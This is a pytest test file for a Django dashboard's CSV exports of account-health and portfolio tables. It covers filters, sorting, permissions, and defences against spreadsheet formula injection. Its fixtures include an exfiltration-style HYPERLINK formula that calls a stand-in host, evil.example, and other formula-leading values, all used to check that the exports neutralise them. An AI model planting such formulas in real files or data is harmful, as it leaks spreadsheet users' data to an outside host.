"""Every table on the book and the portfolio as CSV, with the page's own filters."""

import csv
import io
import string
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from dashboard.exports import PORTFOLIO_TABLES
from tests.factories import give_health, make_account

pytestmark = pytest.mark.django_db


@pytest.fixture
def book(alice, bob):
    red = make_account(csm=alice, name="Red Rocket", arr=Decimal("400000"))
    give_health(
        red, overall=25, rag="red", flags=["checklist_illusion"], tasks_done=9, tasks_total=9
    )
    green = make_account(csm=alice, name="Green Garden", arr=Decimal("90000"))
    give_health(green, overall=90, rag="green")
    theirs = make_account(csm=bob, name="Bob's Bakery")
    give_health(theirs, overall=10, rag="red")
    return {"red": red, "green": green, "theirs": theirs}


def read(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_the_book_downloads_as_csv_streamed(client, alice, book):
    client.force_login(alice)
    response = client.get(reverse("home"), {"format": "csv"})
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = read(response)
    assert [row["account"] for row in rows] == ["Red Rocket", "Green Garden"]
    red = rows[0]
    assert (red["health"], red["score"], red["arr"], red["csm"]) == (
        "red",
        "25.0",
        "400000.00",
        "alice",
    )
    assert red["flags"] == "Checklist illusion"
    assert "9 of 9 checklist tasks are done" in red["why"]


def test_the_book_csv_keeps_the_pages_filters_and_sort(client, vera, book):
    client.force_login(vera)
    rows = read(client.get(reverse("home"), {"format": "csv", "rag": "red", "sort": "name"}))
    assert [row["account"] for row in rows] == ["Bob's Bakery", "Red Rocket"]
    rows = read(client.get(reverse("home"), {"format": "csv", "csm": "bob"}))
    assert [row["account"] for row in rows] == ["Bob's Bakery"]


def test_the_book_csv_is_every_page_not_the_first_fifty(client, alice):
    for n in range(60):
        make_account(csm=alice, name=f"Account {n:02d}")
    client.force_login(alice)
    assert len(read(client.get(reverse("home"), {"format": "csv", "page": 1}))) == 60


def test_the_book_page_links_to_its_csv_with_the_same_filters(client, alice, book):
    client.force_login(alice)
    content = client.get(reverse("home"), {"rag": "red"}).content.decode()
    assert 'href="?rag=red&amp;format=csv"' in content


@pytest.mark.parametrize("table", list(PORTFOLIO_TABLES))
def test_each_portfolio_table_downloads_as_csv(client, vera, book, table):
    client.force_login(vera)
    response = client.get(reverse("portfolio"), {"format": "csv", "table": table})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert read(response), f"{table} has a header and rows"


def test_the_portfolio_links_every_table_to_its_csv(client, vera, book):
    client.force_login(vera)
    content = client.get(reverse("portfolio")).content.decode()
    shown = set(PORTFOLIO_TABLES) - {"score_validity"}  # its table waits for ended accounts
    for table in shown:
        assert f"?format=csv&amp;table={table}" in content


def test_books_by_csm_csv_has_each_csms_numbers(client, vera, book):
    client.force_login(vera)
    rows = read(client.get(reverse("portfolio"), {"format": "csv", "table": "books_by_csm"}))
    alice = next(row for row in rows if row["csm"] == "alice")
    assert (alice["accounts"], alice["red"], alice["green"], alice["arr_at_risk"]) == (
        "2",
        "1",
        "1",
        "400000.0",
    )


def test_an_unknown_portfolio_table_is_a_clear_400(client, vera, book):
    client.force_login(vera)
    response = client.get(reverse("portfolio"), {"format": "csv", "table": "nope"})
    assert response.status_code == 400
    assert b"books_by_csm" in response.content


def test_a_csm_cannot_download_the_portfolio(client, alice, book):
    client.force_login(alice)
    assert (
        client.get(reverse("portfolio"), {"format": "csv", "table": "books_by_csm"}).status_code
        == 403
    )


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def test_the_book_csv_neutralises_a_formula_in_an_account_name(client, alice):
    make_account(csm=alice, name=HOSTILE)
    client.force_login(alice)
    rows = read(client.get(reverse("home"), {"format": "csv"}))
    assert rows[0]["account"] == "'" + HOSTILE


def test_the_riskiest_accounts_csv_neutralises_a_formula_in_an_account_name(client, alice, vera):
    give_health(make_account(csm=alice, name="@SUM(1+1)"), overall=10, rag="red")
    client.force_login(vera)
    response = client.get(reverse("portfolio"), {"format": "csv", "table": "riskiest_accounts"})
    assert [row["account"] for row in read(response)] == ["'@SUM(1+1)"]


def test_the_books_by_csm_csv_neutralises_a_formula_in_a_username(client, vera):
    from accounts.services import user_create_with_role

    csm = user_create_with_role(username="-2+3", role="csm", password="x-long-password")
    give_health(make_account(csm=csm), overall=10, rag="red")
    client.force_login(vera)
    response = client.get(reverse("portfolio"), {"format": "csv", "table": "books_by_csm"})
    assert [row["csm"] for row in read(response)] == ["'-2+3"]


@pytest.mark.parametrize("table", list(PORTFOLIO_TABLES))
def test_each_portfolio_table_is_written_by_the_spreadsheet_safe_writer(
    client, vera, book, table, monkeypatch
):
    """Made to treat every lower-case letter as a formula start, the writer must quote each
    column name: proof that the table goes through it, whatever its cells hold."""
    from candor import spreadsheet

    monkeypatch.setattr(spreadsheet, "FORMULA_STARTS", tuple(string.ascii_lowercase))
    client.force_login(vera)
    response = client.get(reverse("portfolio"), {"format": "csv", "table": table})
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert all(name.startswith("'") for name in header)
